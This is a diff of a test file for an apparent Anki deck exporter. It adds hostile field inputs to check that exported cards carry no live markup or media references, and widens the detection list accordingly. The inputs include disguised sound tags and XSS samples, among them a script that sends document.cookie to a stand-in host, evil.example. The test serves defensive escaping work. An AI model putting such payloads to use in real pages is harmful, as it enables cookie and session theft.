@@ -38,9 +38,33 @@ HOSTILE = {
     "MathJax display": r"\[x^2\]",
     "an image with a sound reference": '<img src="evil.jpg" onerror="alert(1)">[sound:a.mp3]',
     "an audio element and a cloze": '<audio src="a.mp3" autoplay></audio>{{c2::x}}',
+    "a sound reference in capitals": "[SOUND:evil.mp3]",
+    "a sound reference split by a tag": "[so<b></b>und:evil.mp3]",
+    "a sound reference as entities": "&#91;sound:evil.mp3&#93;",
+    "a script element": "<script>fetch('https://evil.example/'+document.cookie)</script>",
+    "a link to script": '<a href="javascript:alert(1)">tap</a>',
+    "a video element": '<video src="v.mp4" autoplay></video>',
+    "a type-in answer": "{{type:Answer}}",
 }
 # What Anki or MathJax would act on, as it would find it in a stored field.
-LIVE = ("[sound:", "[anki:", "[/anki:", "[latex]", "[$]", "[$$]", "{{", "}}", "<img", "<audio", "\\(", "\\[")
+LIVE = (
+    "[sound:",
+    "[anki:",
+    "[/anki:",
+    "[latex]",
+    "[$]",
+    "[$$]",
+    "{{",
+    "}}",
+    "<img",
+    "<audio",
+    "<script",
+    "<a ",
+    "<video",
+    "<b>",
+    "\\(",
+    "\\[",
+)
 
 
 def _notes(path, tmp_path):
@@ -82,7 +106,7 @@ def test_no_anki_field_carries_a_live_media_reference_or_markup(tmp_path, clock,
     assert media == {}  # the deck ships no media file either
     for fields in notes:
         for field in fields:
-            assert not [live for live in LIVE if live in field], (case, field)
+            assert not [live for live in LIVE if live in field.lower()], (case, field)
     mistake, word = notes
     # and the learner still reads exactly what was stored
     assert _shown(mistake[0]) == f"Fix this sentence: “Yesterday I goed home {hostile}”"
